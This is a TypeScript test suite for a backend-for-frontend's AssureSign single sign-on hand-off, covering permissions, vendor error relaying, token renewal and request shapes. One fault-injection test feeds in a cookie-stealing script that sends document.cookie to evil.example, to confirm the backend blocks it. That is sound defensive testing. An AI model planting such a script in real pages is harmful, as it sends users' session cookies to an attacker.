// AssureSign through a BFF: against the sandbox's emulator, and what the BFF sends AssureSign, seen
// by a recording stand-in (the emulator accepts more than AssureSign documents, and logs only
// paths). Sign-in is the sandbox's.
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { USERS, type SandboxUser } from '../../../../sandbox/users.ts'
import { AppBrowser, signIn, startTestBff } from '../testing/bff-sandbox.ts'
import { startPartnerBench, type RecordedPartnerBench } from '../testing/partner-bench.ts'

const [ALICE, BOB, CAROL] = USERS as [SandboxUser, SandboxUser, SandboxUser]
const ASSURESIGN_SSO = '/api/assuresign/authentication/sso'

let bench: RecordedPartnerBench
beforeAll(async () => {
  bench = await startPartnerBench({
    users: [ALICE, BOB],
    recorded: {
      variable: 'SSO_BFF_ASSURESIGN_URL',
      answers: {
        '/apiUserAuthentication': { body: '{"result":{"token":"assuresign-session-token"}}' },
        '/authentication/sso': { body: '{"result":{"ssoToken":"assuresign-sso-token"}}' },
      },
    },
  })
})
afterAll(() => bench.close())
beforeEach(() => bench.reset())

test("alice's AssureSign hand-off needs only her cookie: the BFF logs in and asks for the ssoToken", async () => {
  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(200)
  const body = (await answer.json()) as { result: { ssoToken: string } }
  expect(body.result.ssoToken.length).toBeGreaterThan(20)
  expect(answer.headers.getSetCookie()).toEqual([])
  expect(bench.calls('assuresign', '/authentication/sso')).toBe(1)
})

test("bob may not use AssureSign: the BFF's own handoff_not_permitted before any AssureSign call", async () => {
  const answer = await bench.as(BOB).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(403)
  expect(answer.headers.get('sso-bridge-error')).toBe('handoff_not_permitted')
  expect(await answer.json()).toMatchObject({ error: 'handoff_not_permitted' })
  expect(bench.sandbox.control.log('assuresign')).toEqual([])
})

test('a vendor error relayed by the BFF is marked partner_refused, never with a code of its own', async () => {
  bench.sandbox.control.addFault({
    party: 'assuresign',
    path: '/authentication/sso',
    status: 400,
    body: '{"errorCode":"BAD_REQUEST","summary":"No.","details":[]}',
    times: 1,
  })
  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(502)
  expect(answer.headers.get('sso-bridge-error')).toBe('partner_refused')
})

test("alice's successful hand-off carries no error header", async () => {
  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(200)
  expect(answer.headers.get('sso-bridge-error')).toBeNull()
})

test('AssureSign answering FORBIDDEN to the BFF token once is renewed the same way', async () => {
  bench.sandbox.control.addFault({
    party: 'assuresign',
    path: '/authentication/sso',
    status: 403,
    body: '{"errorCode":"FORBIDDEN","summary":"The session token is not valid.","details":[]}',
    times: 1,
  })
  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(200)
  expect(bench.calls('assuresign', '/apiUserAuthentication')).toBe(1)
})

test('AssureSign answering 401 to the BFF token once is renewed the same way', async () => {
  bench.sandbox.control.addFault({
    party: 'assuresign',
    path: '/authentication/sso',
    status: 401,
    body: '',
    times: 1,
  })
  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(200)
  expect(bench.calls('assuresign', '/authentication/sso')).toBe(2)
  expect(bench.calls('assuresign', '/apiUserAuthentication')).toBe(1)
})

test('AssureSign answering 200 in HTML with a script never reaches the browser: 502 partner_unavailable', async () => {
  bench.sandbox.control.addFault({
    party: 'assuresign',
    path: '/authentication/sso',
    status: 200,
    contentType: 'text/html; charset=utf-8',
    body: '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
    times: 1,
  })
  const answer = await bench.as(ALICE).post(ASSURESIGN_SSO, {})
  expect(answer.status).toBe(502)
  expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
  const text = await answer.text()
  expect(text).not.toContain('<script')
  expect(JSON.parse(text)).toMatchObject({ error: 'partner_unavailable' })
  // Named in the log with the status and the media type; the body never.
  expect(bench.failures()).toEqual([
    { code: 'partner_unavailable', reason: 'assuresign: answered 200 as text/html' },
  ])
})

test('each person gets an AssureSign login of their own, kept for their next hand-off', async () => {
  const fresh = await startTestBff(bench.sandbox)
  try {
    const alice = new AppBrowser(fresh)
    const carol = new AppBrowser(fresh)
    await signIn(alice, ALICE)
    await signIn(carol, CAROL)
    expect((await alice.post(ASSURESIGN_SSO, {})).status).toBe(200)
    expect((await carol.post(ASSURESIGN_SSO, {})).status).toBe(200)
    expect((await alice.post(ASSURESIGN_SSO, {})).status).toBe(200)
    expect(bench.calls('assuresign', '/apiUserAuthentication')).toBe(2)
    expect(bench.calls('assuresign', '/authentication/sso')).toBe(3)
  } finally {
    await fresh.close()
  }
})

test('an AssureSign login answer without a token is a plain 502', async () => {
  const fresh = await bench.startBff()
  try {
    const browser = new AppBrowser(fresh)
    await signIn(browser, ALICE)
    bench.sandbox.control.addFault({
      party: 'assuresign',
      path: '/apiUserAuthentication',
      status: 200,
      body: '{"result":{}}',
      times: 1,
    })
    const answer = await browser.post(ASSURESIGN_SSO, {})
    expect(answer.status).toBe(502)
    expect(await answer.json()).toMatchObject({ error: 'partner_unavailable' })
    expect(bench.failures()).toEqual([
      { code: 'partner_unavailable', reason: 'AssureSign login malformed' },
    ])
    expect(bench.calls('assuresign', '/authentication/sso')).toBe(0)
  } finally {
    await fresh.close()
  }
})

test("the BFF logs in at AssureSign in the person's name, then asks for the ssoToken with it", async () => {
  const answer = await bench.recordedAlice.post('/api/assuresign/authentication/sso', {})
  expect(answer.status).toBe(200)
  expect(await answer.json()).toEqual({ result: { ssoToken: 'assuresign-sso-token' } })
  const [login] = bench.recorder.requests('/apiUserAuthentication')
  expect(JSON.parse(login?.body ?? '')).toEqual({
    request: {
      apiUsername: bench.settingsOf('assuresign').API_USERNAME,
      key: bench.settingsOf('assuresign').API_KEY,
      contextUsername: 'alice@example.com',
      sessionLengthInMinutes: 30,
    },
  })
  const [sso] = bench.recorder.requests('/authentication/sso')
  expect(sso?.headers).toMatchObject({
    accept: 'application/json',
    authorization: 'bearer assuresign-session-token',
  })
  expect(sso?.body).toBe('')
})
